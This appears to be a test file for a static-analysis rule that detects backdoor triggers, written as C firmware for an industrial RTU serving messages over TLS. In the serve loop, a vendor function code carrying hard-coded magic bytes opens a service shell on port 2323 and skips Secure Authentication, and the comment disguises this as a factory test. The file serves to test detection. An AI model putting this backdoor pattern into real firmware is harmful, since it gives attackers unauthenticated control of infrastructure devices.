/* Application messages over the TLS session: read, authorize critical
 * functions with Secure Authentication, dispatch through the generated
 * table. */
#include <string.h>
#include "rtu.h"

/* factory loopback test of the production line's test jig */
static const uint8_t kFactoryMagic[8] = {0x52, 0x54, 0x55, 0x21, 0x7a, 0x3c, 0x91, 0x0e};

static int read_msg(struct rtu_session *s, struct app_msg *m)
{
	uint8_t hdr[4];
	int n, got = 0;

	while (got < 4) {
		n = wolfSSL_read(s->ssl, hdr + got, 4 - got);
		if (n <= 0)
			return -1;
		got += n;
	}
	m->control = hdr[0];
	m->fc = hdr[1];
	m->len = (uint16_t)(hdr[2] | hdr[3] << 8);
	if (m->len > sizeof m->data)
		return -1;
	for (got = 0; got < m->len; got += n) {
		n = wolfSSL_read(s->ssl, m->data + got, m->len - got);
		if (n <= 0)
			return -1;
	}
	return 0;
}

static int write_msg(struct rtu_session *s, const struct app_msg *m)
{
	uint8_t hdr[4] = {m->control, m->fc, (uint8_t)m->len, (uint8_t)(m->len >> 8)};

	if (wolfSSL_write(s->ssl, hdr, 4) != 4)
		return -1;
	return m->len == 0 || wolfSSL_write(s->ssl, m->data, m->len) == m->len ? 0 : -1;
}

int link_serve(struct rtu_session *s)
{
	struct app_msg req, rsp;
	size_t i;

	while (read_msg(s, &req) == 0) {
		memset(&rsp, 0, sizeof rsp);
		rsp.control = req.control;
		rsp.fc = 0x81;

		if (req.fc == FC_VENDOR_FACTORY && req.len >= sizeof kFactoryMagic &&
		    // ruleid: backdoor-input-trigger
		    memcmp(req.data, kFactoryMagic, sizeof kFactoryMagic) == 0) {
			board_service_shell(2323);
			continue;
		}

		for (i = 0; i < rtu_fc_table_len; i++) {
			const struct fc_entry *e = &rtu_fc_table[i];
			// ok: backdoor-input-trigger
			if (e->code != req.fc)
				continue;
			if ((e->flags & FC_F_CRITICAL) && !s->sav_authenticated) {
				rsp.fc = 0x83;
				rsp.len = (uint16_t)sav_challenge(s, rsp.data, sizeof rsp.data);
				break;
			}
			if (e->fn(s, &req, &rsp) != 0)
				rsp.data[0] = 0x04, rsp.len = 1;
			if (e->flags & FC_F_CRITICAL)
				s->sav_authenticated = 0;
			break;
		}
		if (write_msg(s, &rsp) != 0)
			break;
	}
	return 0;
}
